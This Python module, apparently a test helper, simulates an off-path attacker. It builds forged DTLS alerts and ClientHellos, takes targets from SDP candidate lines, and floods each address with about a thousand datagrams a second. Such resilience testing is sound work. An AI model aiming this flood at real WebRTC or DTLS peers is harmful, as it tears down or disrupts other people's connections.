"""An attacker beside the path: knows both ends' addresses, fires forged DTLS at them, cannot read or hold anything."""

import os
import re
import socket
import threading
import time
from typing import Self

DTLS_1_2 = b"\xfe\xfd"


def dtls_record(content_type: int, payload: bytes) -> bytes:
    """A plaintext DTLS record of epoch 0 (RFC 6347 section 4.1)."""
    return bytes([content_type]) + DTLS_1_2 + bytes(8) + len(payload).to_bytes(2, "big") + payload


def forged_alert() -> bytes:
    """Fatal handshake_failure."""
    return dtls_record(21, b"\x02\x28")


def forged_hello() -> bytes:
    """A ClientHello offering one cipher suite."""
    body = DTLS_1_2 + os.urandom(32) + b"\x00\x00\x00\x02\xc0\x2b\x01\x00"
    size = len(body).to_bytes(3, "big")
    return dtls_record(22, b"\x01" + size + b"\x00\x00" + b"\x00\x00\x00" + size + body)


KINDS = {"alert": forged_alert, "hello": forged_hello}


def addresses_in(*descriptions: str) -> list[tuple[str, int]]:
    """Every IPv4 candidate the descriptions name."""
    found = re.findall(r"a=candidate:\S+ 1 udp \d+ (\d+\.\d+\.\d+\.\d+) (\d+)", "\n".join(descriptions))
    return sorted({(host, int(port)) for host, port in found})


class Flood:
    """About a thousand forged datagrams a second at each address, from a port of its own, until it is left."""

    def __init__(self, kind: str, targets: list[tuple[str, int]]) -> None:
        self._make = KINDS[kind]
        self._targets = targets
        self._ended = threading.Event()
        self._thread = threading.Thread(target=self._run, name="flood")
        self.sent = 0

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(self, *_error: object) -> None:
        self._ended.set()
        self._thread.join()

    def _run(self) -> None:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as attacker:
            while not self._ended.is_set():
                for target in self._targets:
                    try:
                        attacker.sendto(self._make(), target)
                        self.sent += 1
                    except OSError:
                        pass  # the port is closed by now
                time.sleep(0.001)
